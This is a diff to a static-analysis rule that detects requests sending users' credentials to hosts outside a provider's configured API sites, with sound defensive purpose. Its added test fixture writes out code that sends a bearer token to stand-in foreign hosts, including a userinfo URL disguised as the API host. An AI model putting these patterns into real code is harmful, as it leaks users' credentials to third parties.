@@ -1,19 +1,21 @@
 import { callerSecretFlow } from '../../flow/sources/credentials.js';
-import { isNetworkCall } from '../../flow/sinks/network.js';
+import { requestAddress } from '../../flow/sinks/network.js';
 import { visible } from '../../flow/taint.js';
+import { externalName } from '../../flow/values/external-name.js';
 import { knownPrefix } from '../../flow/values/known-prefix.js';
 import type { Code, Located } from '../../model/code.js';
 import type { CallValue, Value } from '../../model/facts.js';
 import type { DataNode, ProviderModel } from '../../model/project.js';
 import { defineRule } from '../define.js';
 import { project } from '../example.js';
+import { siteOf } from './network/site.js';
 
 export default defineRule({
   severity: 'error',
   summary: 'Own requests take the credentials of users to the sites in provider-config.yaml only.',
   why: 'The operator of the other site can use the account of the user.',
   limits:
-    'A site is the last two labels of a host, so "uploads.acme.dev" belongs to "api.acme.dev".',
+    'A site is the last two labels of a host, so "uploads.acme.dev" belongs to "api.acme.dev". IP addresses and hosts under shared names such as "co.uk" and "github.io" are compared as a whole.',
   source: {
     text: 'CWE-201, Insertion of Sensitive Information Into Sent Data.',
     url: 'https://cwe.mitre.org/data/definitions/201.html',
@@ -66,10 +68,41 @@ export default defineRule({
       `,
       finds: ['The credentials of the user are sent to a host that is not the API.'],
     },
+    {
+      bad: project`
+        // provider-config.yaml, changed
+        -     base_url: https://api.weather.dev/v1
+        +     base_url: https://api.weather.co.uk/v1
+        +     base_urls: [https://weather.github.io, https://10.0.0.5]
+
+        // src/providers/weather/api/get-forecast.ts
+        import axios from 'axios';
+        import { getCredentials } from './auth.js';
+
+        export async function getForecast(_args: unknown, { principal }: CallContext) {
+          const credentials = await getCredentials(principal.userId);
+          const headers = { authorization: \`Bearer \${credentials?.token}\` };
+          await fetch('https://api.weather.co.uk/days', { headers });
+          await fetch(‹'https://api.weather.co.uk@b.example.net/x'›, { headers });
+          await fetch(‹'https://b.example.co.uk/x'›, { headers });
+          await fetch(‹'https://example.github.io/x'›, { headers });
+          await fetch(‹'https://10.0.7.5/x'›, { headers });
+          await axios.post(‹'https://b.example.net/x'›, {}, { headers });
+          await axios(‹{ url: 'https://b.example.net/x', headers }›);
+          await fetch(‹new URL('https://b.example.net/x')›, { headers });
+          await fetch(‹new URL('/x', 'https://b.example.net')›, { headers });
+          return fetch(‹new Request('https://b.example.net/x', { headers })›);
+        }
+      `,
+      finds: Array.from(
+        { length: 9 },
+        () => 'The credentials of the user are sent to a host that is not the API.',
+      ),
+    },
   ],
 });
 
-/** Sites of the API: the last two labels of its hosts, or the whole of a host without any. */
+/** Sites of the API. */
 function sitesOf({ name, project: { documents } }: ProviderModel): ReadonlySet<string> {
   const entry = documents.config?.get('providers', name);
   const texts = entry?.is === 'map' ? [...urlsIn(entry)] : [];
@@ -82,25 +115,43 @@ function* urlsIn(node: DataNode): Generator<string> {
   if (node.is === 'map') for (const { value } of node.entries) yield* urlsIn(value);
 }
 
-function siteOf(text: string): string | undefined {
-  const [, host] = /^https?:\/\/([^/?#:@]+)/i.exec(text) ?? [];
-  return host?.toLowerCase().split('.').slice(-2).join('.');
-}
-
 /** The address of a request of the provider's own that takes credentials to another site. */
 function foreignAddress(
   { file, value }: Located<CallValue>,
   known: ReadonlySet<string>,
   code: Code,
 ): Value | undefined {
-  const [address, options] = value.arguments;
-  if (!address || !options || !isNetworkCall(code.target({ file, value }))) return undefined;
-  const { text, complete, open } = knownPrefix(code, { file, value: address });
+  const call = { file, value };
+  const address = requestAddress({ call, target: code.target(call), chain: [] }, code);
+  if (!address) return undefined;
+  const { text, complete, open } = knownPrefix(code, writtenAddress(address, code));
   const isWhole = complete || /^https?:\/\/[^/?#]+[/?#]/i.test(text) || beginsPath(open?.value);
   const site = isWhole ? siteOf(text) : undefined;
   if (site === undefined || known.has(site)) return undefined;
-  const sent = callerSecretFlow(code).taint({ file, value: options });
-  return visible(sent).length > 0 ? address : undefined;
+  const isSent = value.arguments
+    .flatMap((part) => [part, ...madeOf(part)])
+    .some((part) => visible(callerSecretFlow(code).taint({ file, value: part })).length > 0);
+  return isSent ? value.arguments[0] : undefined;
+}
+
+/** `new Request('https://…', { headers })` */
+const madeOf = (value: Value): readonly Value[] =>
+  value.is === 'call' && value.construct ? value.arguments : [];
+
+/** The text in `new URL('https://…')`, `new Request('https://…')` and `{ url: 'https://…' }`. */
+function writtenAddress(address: Located, code: Code): Located {
+  const { file, value } = code.resolve(address);
+  if (value.is === 'object')
+    return code.object(address)?.properties.find(({ key }) => key === 'url') ?? address;
+  const isMade =
+    value.is === 'call' &&
+    /^#(URL|Request)$/.test(externalName(code, { file, value: value.callee }) ?? '');
+  const [first, base] = isMade ? value.arguments : [];
+  // A relative address has the host of its base.
+  const isBased =
+    first && base && !/^[a-z]+:/i.test(knownPrefix(code, { file, value: first }).text);
+  const written = isBased ? base : first;
+  return written ? writtenAddress({ file, value: written }, code) : address;
 }
 
 /** path`/rooms/${id}` */
